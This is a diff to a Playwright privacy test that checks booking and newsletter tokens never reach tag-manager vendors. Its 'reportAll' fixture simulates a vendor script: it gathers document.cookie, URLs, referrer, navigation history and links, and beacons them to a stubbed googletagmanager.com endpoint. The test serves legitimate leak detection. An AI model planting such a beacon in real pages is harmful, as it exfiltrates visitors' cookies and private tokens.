@@ -3,7 +3,7 @@
  * scripts report everything that a tag manager can read: no token occurs in it, on that page or on later ones.
  */
 import { randomUUID } from 'node:crypto';
-import type { Page } from '@playwright/test';
+import type { Page, Request } from '@playwright/test';
 import { href } from '../src/routes/hrefs.ts';
 import { locales, publishedPageIds, table } from '../src/routes/table.ts';
 import { wordsFor } from '../src/text/words/words.ts';
@@ -14,18 +14,22 @@ import { chooseConsent, stubOtherHosts, vendorSettings } from './vendors.ts';
 
 test.use({ settings: vendorSettings, timezoneId: 'Europe/Berlin', ...withPrefetch });
 
-/** Sends everything that a vendor's script can read to a host that the CSP of the page allows. */
+/**
+ * Sends everything that a vendor's script can read to a host that the CSP of the page allows. The report is the last
+ * request to another host: the page has asked for all vendors' scripts before this one runs.
+ */
 const reportAll = `
   if (document.currentScript.src.includes('/gtm.js')) setTimeout(() => {
     const links = [...document.querySelectorAll('[href], [action], [src]')].map((one) => one.outerHTML);
     const entries = window.navigation ? navigation.entries().map(({ url }) => url) : [];
     const facts = [location.href, document.referrer, document.cookie, entries, history.state, links];
     const text = JSON.stringify(facts).replace(/https?:\\/\\/127\\.0\\.0\\.1:\\d+/g, '');
-    for (let at = 0; at < text.length; at += 4000) {
-      new Image().src = 'https://www.googletagmanager.com/seen?' + encodeURIComponent(text.slice(Math.max(0, at - 60), at + 4000));
-    }
+    new Image().src = 'https://www.googletagmanager.com/seen?' + encodeURIComponent(text);
   });
 `;
+
+/** The reports that have arrived: address of the page first. */
+const reportsIn = (asked: string[]) => asked.filter((url) => url.includes('/seen?')).map(decodeURIComponent);
 
 const tokenNow = (page: Page) => /[\w-]{32,}$/.exec(page.url())?.[0] ?? 'no token';
 
@@ -64,7 +68,7 @@ test('a booking is a conversion, and its token reaches no vendor: thank-you page
   site,
 }) => {
   const asked = await stubOtherHosts(context, site.url, reportAll);
-  const seen = () => decodeURIComponent(asked.filter((url) => url.includes('/seen?')).join('\n'));
+  const seen = () => reportsIn(asked).join('\n');
   // Records the messages that each frame receives.
   await page.addInitScript(() => {
     const heard: unknown[] = [];
@@ -100,15 +104,15 @@ test('a booking is a conversion, and its token reaches no vendor: thank-you page
   await page.locator('[data-language-switch]').first().click();
   await expect(page).toHaveURL(href('get-a-demo-thanks', 'de'));
   await expect(page.locator('[data-booked]')).toContainText('Berlin');
+  asked.length = 0;
   await page.goBack();
-  await page.reload({ waitUntil: 'networkidle' });
+  await expect.poll(seen).toContain(thanks.manage);
+  asked.length = 0;
+  await page.reload();
+  await expect.poll(seen).toContain(thanks.manage);
 
-  const requests: string[] = [];
-  page.on('request', async (request) => {
-    // The cookie goes to our own server only, and is HttpOnly.
-    const { cookie: _, ...headers } = await request.allHeaders();
-    requests.push(JSON.stringify([request.url(), headers, request.postData()]));
-  });
+  const requests: Request[] = [];
+  page.on('request', (request) => requests.push(request));
   asked.length = 0;
   await page.getByRole('link', { name: thanks.manage }).click();
   await expect(page).toHaveURL(/\/en\/booking\/[\w-]{32}$/);
@@ -125,7 +129,13 @@ test('a booking is a conversion, and its token reaches no vendor: thank-you page
   await page.keyboard.press('Escape');
   // No request to another company, and the token only in requests for the page itself and from it to its own files.
   expect(asked).toEqual([]);
-  expect(requests.filter((one) => one.includes(token) && !one.includes(`/en/booking/${token}"`))).toEqual([]);
+  const sent = requests.map(async (request) => {
+    // The cookie goes to our own server only, and is HttpOnly.
+    const { cookie: _, ...headers } = await request.allHeaders();
+    return JSON.stringify([request.url(), headers, request.postData()]);
+  });
+  const withToken = (await Promise.all(sent)).filter((one) => one.includes(token));
+  expect(withToken.filter((one) => !one.includes(`/en/booking/${token}"`))).toEqual([]);
 
   await page.getByRole('contentinfo').getByRole('link', { name: 'Legal notice' }).click();
   await expect(page).toHaveURL('/en/imprint');
@@ -134,7 +144,7 @@ test('a booking is a conversion, and its token reaches no vendor: thank-you page
   await expect(page).toHaveURL(new RegExp(token));
   await page.goForward();
   await expect(page).toHaveURL('/en/imprint');
-  await page.waitForLoadState('networkidle');
+  await expect.poll(() => reportsIn(asked)).toHaveLength(2);
   expect(asked.filter((url) => decodeURIComponent(url).includes(token))).toEqual([]);
 });
 
@@ -153,7 +163,7 @@ test('the newsletter links work, and their tokens reach no vendor on the next pa
   await expect(page).toHaveURL(href('newsletter-thanks', 'de'));
   const [mail] = await site.mailsTo(email, 1);
   const link = new URL(mail?.text?.match(/https?:\/\/\S+\?t=[\w-]+/)?.[0] ?? '');
-  await page.waitForLoadState('networkidle');
+  await expect.poll(() => reportsIn(asked).join('\n')).toContain(`/seen?["${href('newsletter-thanks', 'de')}"`);
   asked.length = 0;
   await page.goto(link.pathname + link.search);
   const tokens = [tokenNow(page)];
@@ -172,11 +182,11 @@ test('the newsletter links work, and their tokens reach no vendor on the next pa
   tokens.push(tokenNow(page));
   await page.getByRole('button', { name: unsubscribe.button }).click();
   await expect(page.locator('h1')).toHaveText(unsubscribe.states.unsubscribed.title.replaceAll('\u00AD', ''));
+  await page.waitForLoadState();
   expect(asked).toEqual([]);
   await page.getByRole('main').getByRole('link', { name: unsubscribe.links.blog }).click();
   await expect(page).toHaveURL('/blog');
-  await expect.poll(() => asked.some((url) => url.includes('/seen?'))).toBe(true);
-  await page.waitForLoadState('networkidle');
+  await expect.poll(() => reportsIn(asked)).toHaveLength(1);
   const leaked = asked.filter((url) => tokens.some((token) => decodeURIComponent(url).includes(token)));
   expect(leaked).toEqual([]);
 });
